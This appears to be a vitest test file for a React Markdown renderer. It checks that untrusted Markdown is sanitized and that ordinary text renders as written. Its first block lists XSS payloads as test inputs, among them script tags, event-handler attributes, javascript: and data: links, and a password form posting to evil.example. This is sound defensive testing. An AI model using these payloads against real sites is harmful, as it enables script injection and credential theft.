import fc from 'fast-check';
import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import MarkdownView from './markdown-view.tsx';

const shown = (text: string) => renderToStaticMarkup(createElement(MarkdownView, { text }));

describe('Markdown that somebody else wrote', () => {
  it.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)><a href="javascript:alert(1)">x</a></svg>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<style>body{display:none}</style><form action=https://evil.example><input name=password></form>',
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert%281%29)',
    '[x](data:text/html;base64,PHNjcmlwdD4=)',
    '![x](javascript:alert(1))',
    '<javascript:alert(1)>',
    '[x]: javascript:alert(1)\n\n[x]',
    '[x](https://example.org "onmouseover=alert(1)")',
  ])('becomes no markup that runs, loads or asks for anything: %s', (text) => {
    const html = shown(text);
    expect(html).not.toMatch(/<(?:script|img|svg|iframe|style|form|input)\b/i);
    expect(html).not.toMatch(/<[^>]*\s(?:on\w+|style|srcdoc)=/i);
    expect(html.match(/(?:href|src)="(?!https?:)[^"]+"/gi) ?? []).toEqual([]);
  });

  it('keeps links that lead to the web, and tells their hosts nothing', () => {
    expect(shown('[grain](https://example.org/a?b=1)')).toContain(
      '<a href="https://example.org/a?b=1" rel="nofollow ugc noopener noreferrer" target="_blank">grain</a>',
    );
  });
});

/** What a reader sees: the text of the page, with line breaks where the browser makes them. */
function visible(source: string): string {
  return shown(source)
    .replaceAll(/<br\/?>|<\/(?:p|li|h\d|tr|pre|blockquote)>|<hr\/?>/g, '\n')
    .replaceAll(/<\/t[dh]>/g, ' ')
    .replaceAll(/<[^>]+>/g, '')
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&quot;', '"')
    .replaceAll('&#x27;', "'")
    .replaceAll('&amp;', '&')
    .replaceAll(/\n+/g, '\n')
    .trim();
}

describe('what is written is what is seen', () => {
  it.each([
    ['#include <iostream>', '#include <iostream>'],
    ['a <b>bold</b> tag, a <nobody> tag', 'a <b>bold</b> tag, a <nobody> tag'],
    ['<div>\n*x*\n</div>', '<div>\nx\n</div>'],
    ['<!-- a comment -->', '<!-- a comment -->'],
    ['def __init__(self):', 'def __init__(self):'],
    ['_private_ and __all__', '_private_ and __all__'],
    ['2*3*4 = 24, 2**3**4', '2*3*4 = 24, 2**3**4'],
    ['snake_case_name', 'snake_case_name'],
    ['one\ntwo\r\nthree', 'one\ntwo\nthree'],
    ['Before\n\n    indented\n    twice', 'Before\n    indented\n    twice'],
    ['&lt; and &nbsp;', '&lt; and &nbsp;'],
    ['\\(x^2\\) and \\[y\\] and C:\\!new', '\\(x^2\\) and \\[y\\] and C:\\!new'],
    ['\\*not emphasis\\*', '\\*not emphasis\\*'],
    ['[a]: https://example.org "t"', '[a]: https://example.org "t"'],
    ['x[^1]\n\n[^1]: y', 'x[^1]\n[^1]: y'],
    ['[text](https://example.org "Title")', 'text (https://example.org "Title")'],
    ['![alt](https://example.org/a.png)', 'alt (https://example.org/a.png)'],
    ['```python title=x\nprint(1)\n```', 'python title=x\nprint(1)'],
    ['| a |\n| - |\n| b | c |', 'a \nb c'],
    ['about ~5 to ~6', 'about ~5 to ~6'],
    ['*emphasis* and **strong** and ~~gone~~', 'emphasis and strong and gone'],
    ['这是**重点**内容', '这是重点内容'],
  ])('%j', (source, expected) => {
    expect(visible(source).replaceAll(/ +\n/g, '\n')).toBe(expected.replaceAll(/ +\n/g, '\n'));
  });

  it.each([
    ['    four', '<p><span class="indentation">    </span>four</p>'],
    ['\ta tab\n  two', '<p><span class="indentation">\t</span>a tab<br/><span class="indentation">  </span>two</p>'],
    ['one\n\n   three *x*', '<p>one</p>\n<p><span class="indentation">   </span>three <em>x</em></p>'],
  ])('%j keeps its blanks at the beginning of lines', (source, expected) => {
    expect(shown(source)).toBe(expected);
  });

  it('lists keep the numbers that they were given', () => {
    expect(shown('3. c\n3. d\n10. e')).toMatch(/<li value="3">[^]*<li value="3">[^]*<li value="10">/);
  });

  it('holds every character but white space and marks, whatever is written', () => {
    const pieces = [
      '*',
      '_',
      '**',
      '__',
      '`',
      '~',
      '~~',
      '#',
      '>',
      '- ',
      '1. ',
      '|',
      '[',
      ']',
      '(',
      ')',
      '<',
      '&',
      ';',
      '\\',
      '!',
      '^',
      ':',
      '"',
      '\n',
      '\n\n',
      '    ',
      ' ',
    ];
    const words = ['a', 'bc', 'iostream', 'https://example.org', 'é', '麦', 'lt', 'div', '/', '=', '{', '}', '$', '%', '@', ',', '?'];
    const written = fc
      .array(fc.oneof(fc.constantFrom(...pieces), fc.constantFrom(...words)), { maxLength: 40 })
      .map((parts) => parts.join(''));
    // Marks that Markdown may turn into what they stand for.
    const counted = (value: string) => {
      const counts = new Map<string, number>();
      for (const character of value.replaceAll(/[\s*_`~#>|\-+=:![\]()<.\d]/g, '')) counts.set(character, (counts.get(character) ?? 0) + 1);
      return counts;
    };
    fc.assert(
      fc.property(written, (source) => {
        const seen = counted(visible(source));
        for (const [character, count] of counted(source))
          expect([character, seen.get(character) ?? 0]).toEqual([character, Math.max(count, seen.get(character) ?? 0)]);
      }),
      { numRuns: 2_000, seed: 12 },
    );
  });
});
